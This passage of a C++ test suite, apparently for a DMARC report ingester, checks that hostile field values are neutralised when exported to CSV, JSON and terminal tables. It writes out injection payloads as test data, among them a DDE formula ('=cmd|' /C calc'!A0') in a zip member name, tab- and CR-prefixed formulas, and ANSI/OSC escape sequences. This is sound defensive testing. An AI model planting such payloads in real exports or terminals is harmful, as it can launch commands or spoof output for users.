  CHECK(reports[0].report_id == stored("report_id"));
  CHECK(reports[0].policy_domain == stored("domain"));
  std::vector<std::pair<model::ReportMeta, model::Record>> rows;
  f.db->for_each_record({}, [&](const store::ExportRow& row) { rows.emplace_back(*row.meta, *row.record); });
  REQUIRE(rows.size() == 3);
  const auto& [meta, rec] = rows[0];
  CHECK(meta.email == stored("email"));
  CHECK(meta.extra_contact_info == stored("extra_contact_info"));
  REQUIRE(meta.errors.size() == 1);
  CHECK(meta.errors[0] == stored("error"));
  CHECK_FALSE(rec.source_ip);
  CHECK(rec.source_ip_text == stored("source_ip"));
  CHECK(rec.envelope_to == stored("envelope_to"));
  CHECK(rec.envelope_from == stored("envelope_from"));
  CHECK(rec.header_from == stored("header_from"));
  REQUIRE_FALSE(rec.dkim_results.empty());
  CHECK(rec.dkim_results[0].human_result == stored("human_result"));

  std::ostringstream csv_out, json_out;
  {
    output::AggregateWriter csv(csv_out, output::ExportFormat::csv), json(json_out, output::ExportFormat::json);
    for (const auto& [m, rc] : rows) {
      csv.row(m, rc);
      json.row(m, rc);
    }
  }

  // CSV: every row has every column, no cell can start a formula, and the
  // neutralised cells are the stored text behind one quote.
  auto table = read_csv(csv_out.str());
  REQUIRE(table.size() == 4);
  for (const auto& row : table) {
    REQUIRE(row.size() == output::kAggregateColumns.size());
    for (const auto& cell : row) {
      INFO("cell [" << cell << "]");
      CHECK_FALSE(formula_start(cell));
    }
  }
  auto column = [&](std::string_view name) {
    auto at = std::find(output::kAggregateColumns.begin(), output::kAggregateColumns.end(), name);
    return table[1][static_cast<std::size_t>(at - output::kAggregateColumns.begin())];
  };
  CHECK(column("org_name") == "'" + stored("org_name"));
  CHECK(column("org_email") == "'" + stored("email"));
  CHECK(column("report_id") == stored("report_id"));
  CHECK(column("errors") == "'" + stored("error"));
  CHECK(column("source_ip_address") == "'" + stored("source_ip"));
  CHECK(column("envelope_from") == "'" + stored("envelope_from"));
  CHECK(column("header_from") == stored("header_from"));

  // JSON: valid, and each value is the stored text, unchanged.
  nlohmann::json doc;
  REQUIRE_NOTHROW(doc = nlohmann::json::parse(json_out.str()));
  REQUIRE(doc.size() == 3);
  CHECK(doc[0]["org_name"] == stored("org_name"));
  CHECK(doc[0]["report_id"] == stored("report_id"));
  CHECK(doc[0]["org_extra_contact_info"] == stored("extra_contact_info"));
  CHECK(doc[0]["source_ip_address"] == stored("source_ip"));
  CHECK(doc[0]["envelope_to"] == stored("envelope_to"));
  CHECK(doc[0]["envelope_from"] == stored("envelope_from"));
  CHECK(doc[0]["header_from"] == stored("header_from"));
  CHECK_FALSE(has_c0(json_out.str(), "\n"));  // C0 escaped as \u00XX; U+009B is legal JSON as is

  // Terminal: no control byte of any kind survives terminal_safe or a table.
  output::Table t({"field", "value"});
  for (const auto& h : kHostile) {
    std::string safe = output::terminal_safe(h.stored);
    INFO(h.tag << " -> " << safe);
    CHECK_FALSE(has_control(safe));
    t.add_row({std::string(h.tag), std::string(h.stored)});
  }
  std::ostringstream printed;
  t.print(printed, 200);
  CHECK_FALSE(has_control(printed.str(), "\n"));

  // The SQL-looking text did nothing: the tables are all there.
  f.good_report_still_stored();
  CHECK(f.db->list_reports({}).size() == 2);
}

TEST_CASE("adversarial: ESC bytes are refused in XML and escaped wherever else they come from", "[adversarial][backend]") {
  Fixture f;
  auto r = f.rejected(with_org_name("\x1b[31mred\x1b[0m"), "esc-raw.xml", "xml.malformed");
  CHECK(r.rejects[0].reason.find("27") != std::string::npos);
  f.rejected(with_org_name("&#x1b;[31mred"), "esc-reference.xml", "xml.malformed");
  f.rejected(replaced(with_org_name("&#x1b;[31mred"), "version=\"1.0\"", "version=\"1.1\""), "esc-xml11.xml",
             "xml.malformed");

  // A zip member's name is free text: stored as the report's label exactly,
  // escaped on the way to a terminal.
  std::string name = "\x1b[31m=cmd|' /C calc'!A0\x1b[0m.xml";
  r = f.ingest(zip({{.name = name, .data = replaced(basic(), kBasicId, "esc-name")}}), "esc-name.zip");
  INFO(describe(r));
  CHECK(r.outcome == ingest::Outcome::ok);
  bool found = false;
  for (const auto& s : f.db->list_sources())
    if (s.part == name) found = true;
  CHECK(found);
  CHECK_FALSE(has_control(output::terminal_safe(name)));
  // The same name on a bad member goes into the reject's reason, raw in the
  // store, and safe once escaped.
  r = f.rejected(zip({{.name = name, .data = "not xml"}}), "esc-name-bad.zip", "input.not_xml");
  CHECK_FALSE(has_control(output::terminal_safe(r.rejects[0].reason + r.rejects[0].part)));

  // What no report can carry today is escaped all the same, should a future
  // parser let it through: raw ESC, and TAB or CR before a formula.
  model::ReportMeta meta;
  meta.org_name = "\x1b[31m=evil";
  meta.report_id = "\t=1+1";
  meta.email = "\r=1+1";
  model::Record rec;
  rec.header_from = "\x1b]0;title\x07";
  std::ostringstream csv_out, json_out;
  {
    output::AggregateWriter csv(csv_out, output::ExportFormat::csv), json(json_out, output::ExportFormat::json);
    csv.row(meta, rec);
    json.row(meta, rec);
  }
  auto table = read_csv(csv_out.str());
  REQUIRE(table.size() == 2);
  for (const auto& cell : table[1]) CHECK_FALSE(formula_start(cell));
  CHECK(output::csv_field("\t=1+1") == "'\t=1+1");
  CHECK(output::csv_field("\r=1+1") == "\"'\r=1+1\"");
  CHECK(json_out.str().find('\x1b') == std::string::npos);
  auto doc = nlohmann::json::parse(json_out.str());
  CHECK(doc[0]["org_name"] == meta.org_name);
  CHECK(doc[0]["header_from"] == rec.header_from);
  CHECK(output::terminal_safe(meta.org_name) == "\\x1b[31m=evil");
  CHECK_FALSE(has_control(output::terminal_safe(rec.header_from)));
}
